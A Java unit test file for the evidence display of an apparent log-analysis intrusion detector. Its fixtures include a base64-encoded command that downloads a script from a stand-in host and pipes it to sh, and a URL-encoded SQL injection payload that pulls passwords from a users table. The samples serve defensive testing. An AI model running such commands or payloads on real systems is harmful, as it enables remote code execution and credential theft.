package dev.vigil.cli.render;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.alert.AlertAggregator;
import dev.vigil.alert.Alert;
import dev.vigil.alert.Evidence;
import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.catalogue.AlertType;
import dev.vigil.detect.Detection;
import dev.vigil.event.HttpRequest;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;

/** Evidence shown as logged: case kept, one row per input line, window observations not "decoded". */
class EvidenceTextTest {
    static final AlertCatalogue CAT = AlertCatalogue.builtIn();
    static final long T0 = 1_764_000_000_000L;

    // A download piped to a shell, written with upper-case options and base64 (case matters in both).
    static final String CMD = "sh -c echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBzaA== | base64 -d | sh; wget -q -O - http://192.0.2.7/a";

    static Detection proc(String rule, long line) {
        ProcessStart p = ProcessStart.builder(new Origin("proc.json", line, 0)).timeMillis(T0).host("web1")
                .exe("/bin/sh").commandLine(CMD).build();
        AlertType t = CAT.get("EncodedCommand");
        // the rules read a lower-cased normal form; the evidence must still show the command as run
        return new Detection(rule, t, t.severity(), p, "cmdline", CMD, CMD.toLowerCase(Locale.ROOT));
    }

    static Detection sqli(String rule, long line, String field, String value, String decoded) {
        HttpRequest r = HttpRequest.builder(new Origin("access.log", line, 0)).timeMillis(T0).clientIp("203.0.113.9")
                .method("POST").status(500).target("/item?page=2&id=1%27%20UNION%20SELECT%20pass%20FROM%20users--").build();
        AlertType t = CAT.get("SqlInjectionAttempt");
        return new Detection(rule, t, t.severity(), r, field, value, decoded);
    }

    @Test
    void theValueIsShownAsLoggedWithItsDecodingBeside() {
        List<EvidenceText.Line> lines = EvidenceText.byLine(List.of(Evidence.of(proc("proc.pipe-to-shell", 7))));
        String row = EvidenceText.row(lines.get(0), 400);
        assertThat(row).contains("Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBzaA==").contains("wget -q -O -")
                .contains("(decoded: sh -c echo y3vybc");
        assertThat(row.indexOf("-O -")).isLessThan(row.indexOf("decoded:"));
    }

    @Test
    void oneRowPerInputLineWithEveryRuleMethodStatusAndParameter() {
        List<Evidence> ev = List.of(
                Evidence.of(sqli("http.sqli.union", 12, "param_values", "1%27%20UNION%20SELECT%20pass%20FROM%20users--",
                        "1' union select pass from users--")),
                Evidence.of(sqli("http.sqli.comment", 12, "param_values", "1%27%20UNION%20SELECT%20pass%20FROM%20users--",
                        "1' union select pass from users--")),
                Evidence.of(sqli("http.sqli.union", 13, "param_values", "1%27%20UNION%20SELECT%20pass%20FROM%20users--",
                        "1' union select pass from users--")));
        List<EvidenceText.Line> lines = EvidenceText.byLine(ev);
        assertThat(lines).hasSize(2);
        assertThat(lines.get(0).rules()).containsExactly("http.sqli.union", "http.sqli.comment");
        String row = EvidenceText.row(lines.get(0), 400);
        assertThat(row).startsWith("access.log:12  POST 500  [http.sqli.union, http.sqli.comment]")
                .contains("param id = 1%27%20UNION%20SELECT%20pass%20FROM%20users--")
                .contains("(decoded: 1' union select pass from users--)");
        assertThat(row.split("param id", -1)).hasSize(2); // the value once, not once per rule
    }

    @Test
    void aWindowObservationIsNotCalledDecoded() {
        HttpRequest r = HttpRequest.builder(new Origin("access.log", 40, 0)).timeMillis(T0).clientIp("203.0.113.9")
                .method("POST").status(401).target("/wp-login.php").build();
        AlertType t = CAT.get("BruteForce");
        Detection d = new Detection("http.behaviour.brute-force", t, t.severity(), r, "client_ip", "203.0.113.9",
                "10 failed logins in 30 s on /wp-login.php");
        Evidence e = Evidence.of(d);
        assertThat(e.observation()).isTrue();
        assertThat(e.decodedDiffers()).isFalse();
        String row = EvidenceText.row(EvidenceText.byLine(List.of(e)).get(0), 400);
        assertThat(row).doesNotContain("decoded").doesNotContain("client_ip=")
                .contains("client_ip 203.0.113.9: 10 failed logins in 30 s on /wp-login.php");
    }

    @Test
    void aFeedListingOrADanglingRecordIsAnObservationToo() {
        HttpRequest r = HttpRequest.builder(new Origin("access.log", 5, 0)).timeMillis(T0).clientIp("198.51.100.66")
                .method("GET").status(200).target("/").build();
        AlertType t = CAT.get("ThreatIntelClientIp");
        Evidence e = Evidence.of(new Detection("ti.client-ip", t, t.severity(), r, "client_ip", "198.51.100.66",
                "listed in feed blocklist.txt"));
        assertThat(EvidenceText.row(EvidenceText.byLine(List.of(e)).get(0), 400)).doesNotContain("decoded")
                .contains("client_ip 198.51.100.66: listed in feed blocklist.txt");
        // evidence built without the flag (stored before it was kept) is recognised by its rule
        assertThat(new Evidence("z.zone", 3, 0, "dns.dangling-cname", "cname", "a.example", "no live app").observation())
                .isTrue();
        assertThat(new Evidence("a.log", 3, 0, "http.sqli.union", "query", "A", "a").observation()).isFalse();
    }

    @Test
    void theScanTableShowsRawValuesOneRowPerLine() {
        AlertAggregator agg = new AlertAggregator(3_600_000L, 100);
        agg.add(proc("proc.pipe-to-shell", 7));
        agg.add(proc("proc.base64-decode", 7));
        ByteArrayOutputStream buf = new ByteArrayOutputStream();
        new TableOutput(new PrintStream(buf, true, StandardCharsets.UTF_8)).alerts(agg.alerts());
        String out = buf.toString(StandardCharsets.UTF_8);
        assertThat(out).contains("Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBzaA==").contains("-q -O -")
                .contains("[proc.pipe-to-shell, proc.base64-decode]");
        assertThat(out.lines().filter(l -> l.startsWith("    proc.json:7"))).hasSize(1);
    }

    @Test
    void theDetectionsTableShowsTheRawValueToo() {
        ByteArrayOutputStream buf = new ByteArrayOutputStream();
        new TableOutput(new PrintStream(buf, true, StandardCharsets.UTF_8)).detection(proc("proc.pipe-to-shell", 7));
        assertThat(buf.toString(StandardCharsets.UTF_8)).contains("-q -O -").contains("Y3VybCAtcyBodHRw");
    }

    @Test
    void parameterNamesAreFoundInOnePassOverTheQuery() {
        assertThat(Evidence.paramName("a=1&b=2&id=x%27", "x%27", false)).isEqualTo("id");
        assertThat(Evidence.paramName("a=1&b", "b", true)).isEqualTo("b");
        assertThat(Evidence.paramName("a=1", "2", false)).isNull();
        assertThat(Evidence.paramName(null, "2", false)).isNull();
        assertThat(Evidence.paramName("=v&&x=", "", false)).isEqualTo("x");
    }

    @Test
    void aHugeValueIsKeptToItsFirst8KiBAndSaysSo() {
        String big = "q" + "\uD83D\uDE00".repeat(40_000); // 80,001 chars: a high surrogate at index 8,191
        Evidence e = Evidence.of(sqli("http.sqli.union", 1, "query", big, big.toLowerCase(Locale.ROOT)));
        assertThat(e.value().length()).isLessThan(Evidence.MAX_VALUE_CHARS + 40);
        assertThat(e.value()).startsWith("q\uD83D\uDE00").contains("more characters]");
        assertThat(Character.isHighSurrogate(e.value().charAt(e.value().indexOf('…') - 1))).isFalse();
        assertThat(e.decoded().length()).isLessThan(Evidence.MAX_VALUE_CHARS + 40);
    }
}
